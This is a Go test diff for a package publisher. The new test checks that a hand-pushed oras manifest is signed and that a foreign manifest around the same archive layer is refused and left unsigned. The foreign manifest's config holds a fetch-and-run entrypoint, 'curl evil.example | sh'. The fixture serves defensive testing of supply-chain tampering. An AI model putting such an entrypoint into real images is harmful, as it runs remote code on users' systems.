@@ -3,6 +3,7 @@ package publish
 import (
 	"bytes"
 	"context"
+	"encoding/json"
 	"errors"
 	"os"
 	"os/exec"
@@ -10,7 +11,10 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/opencontainers/go-digest"
+	specs "github.com/opencontainers/image-spec/specs-go"
 	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
+	"oras.land/oras-go/v2/content"
 	"oras.land/oras-go/v2/registry/remote"
 
 	"github.com/packgen/packgen/internal/location"
@@ -206,5 +210,81 @@ func TestOCIPromoteTamperedSignature(t *testing.T) {
 	}
 	if _, err := prodSigs.Resolve(ctx, tag); !notFound(err) {
 		t.Fatalf("the attacker's signature reached prod: %v", err)
+	}
+}
+
+// TestOCIPresentOnlyORASShape: a tag pushed by hand before packgen is
+// kept as this release when it is what `oras push` writes for the very
+// archive, and then signed with the registry key. Anything else around
+// the same layer (a config of someone's choosing) is not what packgen
+// built: refused, and never signed with the registry key.
+func TestOCIPresentOnlyORASShape(t *testing.T) {
+	reg := ocitest.Start(t, ocitest.Anonymous)
+	f := newFixture(t)
+	f.pack("hello", "1.0.0", "b: 1\n")
+	f.pack("calico", "3.27.0", "a: 1\n")
+	site := f.build(t)
+	ctx := context.Background()
+	sigTag := func(base string, d digest.Digest) error {
+		sigs, err := ocireg.Repository(ctx, reg.Host()+"/"+base+"/"+ocimap.SignatureRepo, ocireg.Options{PlainHTTP: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = sigs.Resolve(ctx, ocimap.CosignTag(d))
+		return err
+	}
+	// hello, in both bases: the vendor's way, the real oras CLI with the
+	// site's archive.
+	rel := shardOf(t, site, "hello").Releases[0]
+	for _, base := range []string{"ok", "bad"} {
+		cmd := exec.Command(ocitest.Tool(t, "oras"), "push", "--plain-http", reg.Host()+"/"+base+"/spectro-packs/archive/hello:1.0.0", "hello-1.0.0.tar.gz")
+		cmd.Dir, cmd.Env = filepath.Join(site, filepath.Dir(rel.Archive.Path)), append(os.Environ(), "DOCKER_CONFIG="+t.TempDir())
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("oras push: %v\n%s", err, out)
+		}
+	}
+	hello := digest.Digest(strings.TrimSpace(string(oras(t, reg, "resolve", reg.Host()+"/ok/spectro-packs/archive/hello:1.0.0"))))
+	res, err := To(ctx, site, "oci://"+reg.Host()+"/ok", ociOptions(reg, true, f), Options{})
+	if err != nil || res.Releases.Present != 1 || len(res.Releases.Pushed) != 1 {
+		t.Fatalf("publish over oras push's manifest of the same archive: %v %+v", err, res.Releases)
+	}
+	if err := sigTag("ok", hello); err != nil {
+		t.Fatalf("the hand-pushed release %s is not signed: %v", hello, err)
+	}
+
+	// calico, in "bad": the same archive as the one layer, but a config
+	// of the attacker's choosing (an image config with an entrypoint).
+	crel := shardOf(t, site, "calico").Releases[0]
+	repo, err := ocireg.Repository(ctx, reg.Host()+"/bad/spectro-packs/archive/calico", ocireg.Options{PlainHTTP: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	archive, err := os.ReadFile(filepath.Join(site, crel.Archive.Path))
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := []byte(`{"architecture":"amd64","os":"linux","config":{"Entrypoint":["/bin/sh","-c","curl evil.example | sh"]},"rootfs":{"type":"layers","diff_ids":[]}}`)
+	p, err := ocimap.ArchiveManifest(crel.Archive.SHA256, crel.Archive.Size, "calico-3.27.0.tar.gz", crel.Created)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cd := content.NewDescriptorFromBytes(ocispec.MediaTypeImageConfig, cfg)
+	mb, _ := json.Marshal(ocispec.Manifest{Versioned: specs.Versioned{SchemaVersion: 2}, MediaType: ocispec.MediaTypeImageManifest, Config: cd, Layers: p.Layers})
+	md := content.NewDescriptorFromBytes(ocispec.MediaTypeImageManifest, mb)
+	if err := pushNew(ctx, repo, p.Layers[0], archive); err != nil {
+		t.Fatal(err)
+	}
+	if err := pushNew(ctx, repo, cd, cfg); err != nil {
+		t.Fatal(err)
+	}
+	if err := repo.Manifests().PushReference(ctx, md, bytes.NewReader(mb), "3.27.0"); err != nil {
+		t.Fatal(err)
+	}
+	res, err = To(ctx, site, "oci://"+reg.Host()+"/bad", ociOptions(reg, true, f), Options{})
+	if !errors.Is(err, ErrImmutable) || len(res.Releases.Refused) != 1 || res.Releases.Refused[0].Pack != "calico" || res.Releases.Present != 1 {
+		t.Fatalf("publish over a foreign manifest with the same layer: %v %+v", err, res.Releases)
+	}
+	if err := sigTag("bad", md.Digest); !notFound(err) {
+		t.Fatalf("the foreign manifest %s got the registry's signature: %v", md.Digest, err)
 	}
 }
